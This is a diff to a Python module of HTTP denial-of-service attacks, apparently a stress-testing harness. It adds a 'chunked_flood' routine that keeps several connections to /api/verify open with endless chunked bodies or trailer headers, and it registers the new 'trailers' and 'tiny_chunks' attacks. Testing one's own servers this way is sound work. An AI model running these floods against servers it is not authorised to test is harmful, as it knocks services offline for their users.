@@ -164,6 +164,30 @@ def slow_bodies(target: Target) -> Iterator[bool]:
     return hold(opened)
 
 
+def trailers(target: Target) -> Iterator[bool]:
+    """Headers without end behind an empty body, over several connections."""
+    return chunked_flood(target, b"0\r\n", b"a:\r\n")
+
+
+def tiny_chunks(target: Target) -> Iterator[bool]:
+    """Bodies in chunks of one byte without end, over several connections."""
+    return chunked_flood(target, b"", b"1\r\nx\r\n")
+
+
+def chunked_flood(target: Target, first: bytes, repeated: bytes) -> Iterator[bool]:
+    """Bodies in chunks that begin so, and then repeat the same, over several connections at the same time."""
+    head = b"POST /api/verify HTTP/1.1\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n" + HOST + b"\r\n"
+    portion = repeated * (PORTION // len(repeated))
+    while True:
+        with ExitStack() as stack:
+            clients = [stack.enter_context(target.connected(head + first)) for _ in range(TOGETHER)]
+            floods = [flood(client, portion) for client in clients]
+            while floods:
+                ended = [one for one in floods if next(one)]
+                floods = [one for one in floods if one not in ended]
+                yield bool(ended)
+
+
 def silence(target: Target) -> Iterator[bool]:
     """Connections over which nothing is sent."""
     return hold(lambda stack: stack.enter_context(target.connected()))
@@ -284,6 +308,8 @@ ATTACKS: Final[dict[str, Attack]] = {
         many_headers,
         unread_answers,
         slow_bodies,
+        trailers,
+        tiny_chunks,
         silence,
         requests,
         probes,
